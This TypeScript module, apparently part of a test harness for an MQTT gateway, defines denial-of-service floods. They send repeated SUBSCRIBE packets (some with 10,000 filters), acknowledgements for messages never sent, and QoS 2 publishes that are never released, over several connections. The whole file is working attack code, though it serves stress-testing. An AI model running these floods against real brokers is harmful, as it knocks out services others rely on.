// floods.ts: attackers that send one kind of packet as fast as the gateway takes it: of each control packet,
// with reading the answers and without.

import type { Socket } from 'node:net'
import { repeated, type Attack, type AttackKit } from './attack-kit.ts'

const connections = 4
const chunkBytes = 64 * 1024
const idMax = 65_535

/** Bytes of the packets from `first` on, about a chunk. */
type Chunk = (kit: AttackKit, first: number) => { bytes: Buffer; next: number }

type Make = (kit: AttackKit, high: number, low: number) => Buffer

const packetOf = (head: number, ...body: readonly number[]) => Buffer.from([head, body.length, ...body])

function always(make: (kit: AttackKit) => Buffer): Chunk {
  let bytes: Buffer | null = null
  return (kit) => {
    const packet = make(kit)
    bytes ??= repeated(packet, Math.max(1, Math.floor(chunkBytes / packet.length)))
    return { bytes, next: 0 }
  }
}

/** Packets with ascending identifiers. `make` writes an identifier of two bytes. */
function ascending(make: Make): Chunk {
  return (kit, first) => {
    const size = make(kit, 0, 1).length
    const parts: Buffer[] = []
    let id = first
    for (let bytes = 0; bytes + size <= chunkBytes; bytes += size) {
      id = (id % idMax) + 1
      parts.push(make(kit, id >> 8, id & 0xff))
    }
    return { bytes: Buffer.concat(parts), next: id }
  }
}

async function flood(kit: AttackKit, socket: Socket, chunk: Chunk): Promise<void> {
  let next = 0
  for (;;) {
    const made = chunk(kit, next)
    next = made.next
    if (!(await kit.write(socket, made.bytes))) break
    await new Promise(setImmediate)
  }
  socket.destroy()
}

const filter = [0, 1, 0x61]
/** Of MQTT 5: no properties. */
const section = ({ target }: AttackKit) => (target.version === 5 ? [0] : [])
const publish = (qos: 0 | 1 | 2, payload: string) => (kit: AttackKit, high: number, low: number) =>
  kit.publish({ topic: 'telemetry/v1/truck-7', payload, qos, messageId: high * 256 + low })
const position = JSON.stringify({ ts: Date.now(), gps: { lat: 1, lon: 2 } })

function wideSubscribe(kit: AttackKit): Buffer {
  const filters = repeated(Buffer.from([...filter, 0]), 10_000)
  const before = [0, 1, ...section(kit)]
  const length = filters.length + before.length
  const head = [0x82, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14]
  return Buffer.concat([Buffer.from([...head, ...before]), filters])
}

const kinds: readonly { name: string; does: string; chunk: Chunk; clean?: boolean }[] = [
  {
    name: 'subscribe',
    does: 'floods SUBSCRIBE',
    chunk: ascending((kit, high, low) => packetOf(0x82, high, low, ...section(kit), ...filter, 0)),
  },
  {
    name: 'subscribe-wide',
    does: 'floods SUBSCRIBE with 10,000 filters each',
    chunk: always(wideSubscribe),
  },
  {
    name: 'unsubscribe',
    does: 'floods UNSUBSCRIBE',
    chunk: ascending((kit, high, low) => packetOf(0xa2, high, low, ...section(kit), ...filter)),
  },
  { name: 'pingreq', does: 'floods PINGREQ', chunk: always(() => packetOf(0xc0)) },
  {
    name: 'puback',
    does: 'floods PUBACK for messages that it never got',
    chunk: ascending((_kit, high, low) => packetOf(0x40, high, low)),
  },
  {
    name: 'pubrec',
    does: 'floods PUBREC for messages that it never got',
    chunk: ascending((_kit, high, low) => packetOf(0x50, high, low)),
  },
  {
    name: 'pubrel',
    does: 'floods PUBREL for messages that it never sent',
    chunk: ascending((_kit, high, low) => packetOf(0x62, high, low)),
  },
  {
    name: 'pubcomp',
    does: 'floods PUBCOMP for messages that it never got',
    chunk: ascending((_kit, high, low) => packetOf(0x70, high, low)),
  },
  {
    name: 'qos2-unreleased',
    does: 'publishes with QoS 2 and never releases',
    chunk: ascending(publish(2, position)),
  },
  {
    name: 'qos2-stored',
    does: 'publishes with QoS 2 in a stored session and never releases',
    chunk: ascending(publish(2, position)),
    clean: false,
  },
  { name: 'qos0', does: 'publishes with QoS 0', chunk: ascending(publish(0, position)) },
  { name: 'qos1', does: 'publishes with QoS 1', chunk: ascending(publish(1, position)) },
]

export const floods: readonly Attack[] = kinds.flatMap(({ name, does, chunk, clean = true }) =>
  [true, false].map((reads): Attack => ({
    name: `${name}-${reads ? 'read' : 'unread'}`,
    does: `${does} and ${reads ? 'reads the answers' : 'does not read'}`,
    run: (kit) =>
      kit.crowd(connections, async (index, turn) => {
        const socket = await kit.join(`flood-${index}-${clean ? turn : 0}`, { reads }, { clean })
        if (socket === null) await kit.pause(20)
        else await flood(kit, socket, chunk)
      }),
  })),
)
